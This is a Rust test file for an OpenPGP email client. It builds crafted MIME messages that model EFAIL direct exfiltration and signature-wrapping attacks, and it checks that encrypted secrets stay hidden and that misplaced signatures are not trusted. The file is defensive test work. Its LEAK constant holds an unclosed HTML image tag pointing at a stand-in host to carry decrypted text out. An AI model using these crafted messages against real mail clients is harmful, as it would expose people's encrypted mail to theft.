//! Ciphertext where it does not belong, and signatures of what was encrypted (security rules R19,
//! R20, R29; EFAIL's direct exfiltration).

use super::*;

const LEAK: &str = "Content-Type: text/html\r\n\r\n<img src=\"https://z.example/?EVIL=";
const END: &str = "Content-Type: text/html\r\n\r\n\">";

fn secret() -> String {
    plain(SECRET)
}

/// An honest message, encrypted and signed.
fn honest() -> String {
    message(&encrypted(&plain(TRUTH), Some(&world().hana)))
}

/// A block of text that holds what was encrypted.
fn block() -> String {
    armored(SECRET, None)
}

/// Messages in which a signature by Hana stands round or beside what Eve encrypted.
pub(super) const SIGNED_CASES: &[Case] = &[
    ("encrypted by Eve with her signature", |evil| {
        let evil_one = message(&encrypted(&plain(EVIL), Some(&world().eve)));
        if evil { evil_one } else { honest() }
    }),
    ("encrypted by Eve beside what Hana signed", |evil| {
        let mine = multi("mixed", "in", &[&signed(&plain(TRUTH)), &plain(EVIL)]);
        let honest_one = message(&encrypted(&signed(&plain(TRUTH)), None));
        if evil { message(&encrypted(&mine, None)) } else { honest_one }
    }),
    ("a signature round what Eve encrypted", |evil| {
        let mine = encrypted(&plain(EVIL), None);
        if evil { message(&signed(&mine)) } else { honest() }
    }),
    ("a signature round a multipart with what Eve encrypted", |evil| {
        let mine = multi("mixed", "in", &[&encrypted(&plain(EVIL), None)]);
        if evil { message(&signed(&mine)) } else { honest() }
    }),
    ("what Hana signed for somebody else, encrypted again", |evil| {
        let to_eve = {
            use sequoia_openpgp::serialize::stream::{
                Encryptor, LiteralWriter, Message, Recipient, Signer,
            };
            use std::io::Write;
            let world = world();
            let policy = crate::openpgp::policy();
            let omar = world.omar.public();
            let at = std::time::UNIX_EPOCH + std::time::Duration::from_millis(NOW.unsigned_abs());
            let keys = omar.cert.keys().with_policy(&policy, at).for_transport_encryption();
            let pair = world.hana.cert.keys().secret().nth(1).unwrap();
            let pair = pair.key().clone().into_keypair().unwrap();
            let mut out = Vec::new();
            let closed =
                Encryptor::for_recipients(Message::new(&mut out), keys.map(Recipient::from));
            let signer = Signer::new(closed.build().unwrap(), pair).unwrap().creation_time(at);
            let signer = signer.add_intended_recipient(&world.eve.public().cert);
            let mut text = LiteralWriter::new(signer.build().unwrap()).build().unwrap();
            text.write_all(plain("You are fired, EVIL one").as_bytes()).unwrap();
            text.finalize().unwrap();
            use base64::{Engine as _, prelude::BASE64_STANDARD};
            let body = BASE64_STANDARD.encode(out);
            format!(
                "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n{body}"
            )
        };
        let mine = message(&multi(ENCRYPTED, "enc", &[CONTROL, &to_eve]));
        if evil { mine } else { honest() }
    }),
    ("a text before the encrypted part", |evil| {
        let mine = honest().replacen("\r\n\r\n--enc", "\r\n\r\nEVIL\r\n--enc", 1);
        if evil { mine } else { honest() }
    }),
    ("a text before the armour", |evil| {
        let mine = honest().replacen("-----BEGIN", "EVIL\r\n-----BEGIN", 1);
        if evil { mine } else { honest() }
    }),
    ("a second message behind the armour", |evil| {
        let mine = sealed(&plain(TRUTH), Some(&world().hana)) + &armored(&plain(EVIL), None);
        let mine = message(&multi(ENCRYPTED, "enc", &[CONTROL, &mine]));
        if evil { mine } else { honest() }
    }),
    ("a message before the armour", |evil| {
        let theirs = armored(&plain(TRUTH), Some(&world().hana));
        let mine = sealed(&plain(EVIL), None) + &theirs;
        let mine = message(&multi(ENCRYPTED, "enc", &[CONTROL, &mine]));
        if evil { mine } else { honest() }
    }),
    ("a signature of the inside beside it", |evil| {
        let inner = plain(EVIL);
        let mine = multi(SIGNED, "sig", &[&encrypted(&inner, None), &signature(&plain(TRUTH))]);
        if evil { message(&mine) } else { honest() }
    }),
];

/// Messages in which something that was encrypted stands beside Eve's words: it stays closed.
pub(super) const CASES: &[Case] = &[
    ("between halves of HTML", |_| {
        message(&multi("mixed", "out", &[LEAK, &encrypted(&secret(), None), END]))
    }),
    ("between halves of HTML, as a block", |_| {
        message(&multi("mixed", "out", &[LEAK, &plain(&block()), END]))
    }),
    ("in related", |_| message(&multi("related", "out", &[LEAK, &encrypted(&secret(), None)]))),
    ("in alternative", |_| {
        message(&multi("alternative", "out", &[&encrypted(&secret(), None), LEAK]))
    }),
    ("alone in mixed", |_| message(&multi("mixed", "out", &[&encrypted(&secret(), None)]))),
    ("behind a text", |_| {
        message(&multi("mixed", "out", &[&plain(EVIL), &encrypted(&secret(), None)]))
    }),
    ("three children", |_| {
        message(&multi(ENCRYPTED, "enc", &[CONTROL, &sealed(&secret(), None), LEAK]))
    }),
    ("three children, Eve's first", |_| {
        message(&multi(ENCRYPTED, "enc", &[LEAK, CONTROL, &sealed(&secret(), None)]))
    }),
    ("without its first part", |_| {
        message(&multi(ENCRYPTED, "enc", &[LEAK, &sealed(&secret(), None)]))
    }),
    ("as a part of another type", |_| {
        let part = format!("Content-Type: text/html\r\n\r\n{}", block());
        message(&multi(ENCRYPTED, "enc", &[CONTROL, &part]))
    }),
    ("as a block within a text", |_| message(&plain(&format!("EVIL\r\n{}", block())))),
    ("as a block before a text", |_| message(&plain(&format!("{}\r\nEVIL", block())))),
    ("as two blocks", |_| message(&plain(&format!("{}\r\n{}", block(), block())))),
    ("as a block within HTML", |_| message(&format!("{LEAK}\r\n{}\r\n\">", block()))),
    ("as a block of HTML alone", |_| {
        message(&format!("Content-Type: text/html\r\n\r\n{}", block()))
    }),
    ("within a message", |_| {
        let inner = message(&encrypted(&secret(), None));
        let inner = format!("Content-Type: message/rfc822\r\n\r\n{inner}");
        message(&multi("mixed", "out", &[LEAK, &inner, END]))
    }),
    ("within what Hana signed", |_| {
        message(&signed(&multi("mixed", "out", &[LEAK, &encrypted(&secret(), None), END])))
    }),
    ("within what Eve encrypted", |_| {
        let inner = multi("mixed", "out", &[LEAK, &encrypted(&secret(), None), END]);
        message(&encrypted(&inner, None))
    }),
    ("within a block that Eve signed", |_| {
        message(&plain(&clearsigned(&world().eve, &format!("EVIL\n{}", block().replace('\r', "")))))
    }),
    ("as an attachment", |_| {
        let part = format!(
            "Content-Type: application/octet-stream; name=a.asc\r\n\
             Content-Disposition: attachment\r\n\r\n{}",
            block()
        );
        message(&multi("mixed", "out", &[LEAK, &part, END]))
    }),
];

#[test]
fn r29_a_signature_says_nothing_of_what_eve_encrypted() {
    judge(SIGNED_CASES);
}

#[test]
fn r19_what_is_not_the_whole_message_stays_closed() {
    for (name, make) in CASES {
        let seen = see(&make(true));
        assert!(!seen.shown.contains(SECRET), "{name}: {:?}\n{}", seen.verdict, seen.shown);
        assert!(
            seen.verdict.signature != SignatureState::Good || *name == "within what Hana signed"
        );
    }
    for whole in [message(&encrypted(&secret(), None)), message(&plain(&block()))] {
        let seen = see(&whole);
        assert_eq!(seen.verdict.encryption, Encryption::Full);
        assert!(seen.shown.contains(SECRET));
    }
}
